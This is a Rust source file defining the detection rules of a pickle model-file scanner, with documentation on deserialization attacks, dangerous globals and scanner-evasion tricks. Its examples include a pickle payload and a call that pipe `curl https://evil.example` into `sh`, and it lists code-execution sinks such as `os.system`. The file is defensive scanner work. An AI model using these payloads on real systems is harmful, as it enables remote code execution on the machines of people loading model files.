//! The rules the pickle analyser raises.

use crate::rule::Rule;
use crate::severity::Severity;

/// A global that runs code, spawns processes, touches files or the network.
pub static DANGEROUS_GLOBAL: Rule = Rule {
    id: "pickle-dangerous-global",
    severity: Severity::Critical,
    summary: "A pickle imports a callable or module that can run code or reach outside the model when it is loaded.",
    docs: r#"
## Why it matters
Unpickling imports every global the stream names (`GLOBAL`, `STACK_GLOBAL`, `INST`) and calls
whatever `REDUCE`, `NEWOBJ`, `OBJ` and `INST` tell it to. A model file that names `os.system`,
`builtins.exec`, `subprocess.Popen`, `runpy._run_code` or a by-value code builder from `dill` or
`cloudpickle` runs that code the moment `torch.load`, `joblib.load` or `pickle.load` opens it.
Denylisted packages cover all their submodules (`os.path`, `importlib.util`), and names reached
through an attribute chain of another module (`torch.os.system`) are caught too.

Names are judged after resolving them as Python's `find_class` does: `shutil.os.system` is
`os.system`, `io.open` is `_io.open`, whatever the spelling.

Severity is **critical** for every known sink, however it is reached: code execution, processes,
code objects, imports by name, file writes and reads, network, and loaders of a nested payload
(`torch.load`, `numpy.load`, `pandas.read_pickle`). It is **high** for gadget builders
(`operator.attrgetter`, `builtins.setattr`), interpreter state, probes of the system and
callbacks that run later.

## Example
`cos\nsystem\n(S'curl https://evil.example | sh'\ntR.` renders as
`os.system('curl https://evil.example | sh')`.

## What to do
Do not load the file. Ask the publisher for a safetensors version, or load it with
`torch.load(..., weights_only=True)` in an isolated environment if you must inspect it.

## References
- https://docs.python.org/3/library/pickle.html (the warning at the top)
- CWE-502: Deserialization of Untrusted Data
"#,
};

/// A global on neither list.
pub static UNKNOWN_GLOBAL: Rule = Rule {
    id: "pickle-unknown-global",
    severity: Severity::Medium,
    summary: "A pickle imports a global that is neither known to be needed by checkpoints nor known to be dangerous.",
    docs: r#"
## Why it matters
modelvet decides from an allowlist of what real checkpoints need (tensor rebuild functions,
storages, numpy arrays, common estimator classes). Any other global is imported, and often
called, when the file loads: custom model classes (`__main__.Net`), third-party helpers, or a
dangerous callable that no denylist knows yet. Every published pickle scanner has been bypassed
by a callable missing from its denylist, so unknown globals are reported rather than trusted.

A global that is only referenced (stored as data, never called while loading) from a module
whose import modelvet's name index has observed (the standard library, numpy, torch, pandas,
scikit-learn, transformers, ...: `numpy.log1p` inside a `FunctionTransformer`) is **low**: only
its import runs, and that import is known. A class of a constructible namespace (`torch.nn`
layers, scikit-learn estimators) that is only instantiated and given state is not reported.

## What to do
Check that each reported global comes from code you trust and install. The default
`--fail-on high` lets these pass; `--fail-on medium` blocks them.
"#,
};

/// A global on neither list, called with arguments from the file.
pub static UNKNOWN_CALL: Rule = Rule {
    id: "pickle-unknown-call",
    severity: Severity::High,
    summary: "A pickle calls a global that nothing known says is safe, with arguments taken from the file.",
    docs: r#"
## Why it matters
`REDUCE`, `INST`, `OBJ` and `NEWOBJ` call what the stream names with arguments the stream
supplies, and so do helpers that call what they are given (`copyreg.__newobj__(cls, *args)`,
`torch._tensor._rebuild_from_type_v2(func, cls, args, state)`). A denylist can never be
complete: the standard library and every installed package hold callables that evaluate strings,
write files, open URLs or load another pickle under names nobody listed. modelvet therefore
judges a call by what is known of its target, after resolving the name the way Python's
`find_class` does (`shutil.os.system` is `os.system`, `io.open` is `_io.open`): a callable on the
allowlist is safe, a known sink is `pickle-dangerous-global` (critical for code execution), and
any other callable that receives the file's arguments is this finding, which fails the default
gate. A class that is only instantiated, with nothing passed to it, and then given state by
`BUILD` is `pickle-unknown-global` (medium) instead: that is how every custom model class is
pickled.

## Example
`mylib.helpers.run_pipeline('curl https://evil.example | sh')`

## What to do
Find out what the callable does with its arguments before loading the file; if it comes from
your own code, add it to an allowlist policy. Otherwise treat the file as hostile.
"#,
};

/// State planted on modules or classes, calls on call results.
pub static GADGET: Rule = Rule {
    id: "pickle-gadget",
    severity: Severity::High,
    summary: "A pickle combines harmless-looking globals into a gadget: state set on a module or class, a call on a call's result, or special attributes rewritten.",
    docs: r#"
## Why it matters
Even when every imported global is allowed, the pickle machine can be steered into dangerous
behaviour: `BUILD` on a module or class object (`setattr` on the module, planting a builtin in
place of an allowed function), `SETITEM`/`APPEND` on a global, `BUILD` state that sets
`__class__`, `__dict__` or `__reduce__`, or calling the result of a call (a getter chain such
as `getattr(obj, 'method')(...)`). Real checkpoints do none of this.

## What to do
Treat the file as hostile. The evidence shows the operation as Python.
"#,
};

/// `STACK_GLOBAL` with a computed name.
pub static DYNAMIC_GLOBAL: Rule = Rule {
    id: "pickle-dynamic-global",
    severity: Severity::High,
    summary: "A pickle imports a global whose module or name is computed while loading, so it cannot be checked statically.",
    docs: r#"
## Why it matters
`STACK_GLOBAL` takes the module and name from the stack. Normally both are string constants
(possibly fetched from the memo, which modelvet follows). When either is the result of a call,
the imported object is decided at load time: a way to hide `os.system` from scanners.

## What to do
Do not load the file.
"#,
};

/// `EXT1/2/4` with an unregistered code.
pub static UNKNOWN_EXTENSION: Rule = Rule {
    id: "pickle-unknown-extension",
    severity: Severity::High,
    summary: "A pickle refers to a global through an extension code that the default registry does not define.",
    docs: r#"
## Why it matters
`EXT1`, `EXT2` and `EXT4` name a global by a number looked up in `copyreg`'s extension
registry, which is empty in a standard interpreter. A loader that registered codes resolves the
number to whatever it registered; a scanner cannot know what that is, and the standard loader
fails. Real checkpoints never use extension codes.

## What to do
Do not load the file unless you know which registry it was written for.
"#,
};

/// Not a valid pickle where it claims to be one.
pub static MALFORMED: Rule = Rule {
    id: "pickle-malformed",
    severity: Severity::High,
    summary: "A pickle stream is invalid or truncated; the loader fails there, after running everything before it.",
    docs: r#"
## Why it matters
The unpickler executes opcodes as it reads them: an error half-way does not undo the imports
and calls before it. A stream that one parser rejects and another accepts is how payloads hide
from scanners (a differential), and scanners that give up on the first error miss what
follows. modelvet reads protocol 0 arguments exactly as CPython's C unpickler
(`Modules/_pickle.c`, what `pickle.load` uses) does, keeps everything found before the error,
and resynchronises on the next offset where a pickle could start: every offset after the error
is tried as the start of a headerless (protocol 0/1) pickle, up to `pickle.max_resync_bytes`
per stream, then only protocol 2+ headers are looked for.

Severity is **high**: a file that modelvet cannot read as the loader does fails the default
gate. A name or number line longer than `pickle.max_line_bytes` is reported here too (the
loader reads it whole).

## What to do
Re-download the file and compare its hash with the publisher's. A stream that is broken on
purpose is an evasion attempt.
"#,
};

/// Bytes after the last pickle.
pub static TRAILING_DATA: Rule = Rule {
    id: "pickle-trailing-data",
    severity: Severity::Low,
    summary: "Data follows the end of the first pickle: more pickles or bytes that a custom loader may read.",
    docs: r#"
## Why it matters
`pickle.load` stops at the first `STOP` opcode, but loaders that call it again (joblib,
PyTorch's legacy format, custom code) read what follows. Scanners that stop at the first
`STOP` miss payloads placed after it. modelvet scans every pickle in the stream and
judges each on its own (a dangerous call in the tail is its own high or critical
finding), and reads a zip behind the pickle as a zip. Bytes that are no pickle make a
second `pickle.load` raise. So this finding is information: low.

## What to do
Find out which loader reads this file and why it holds more than one pickle.
"#,
};
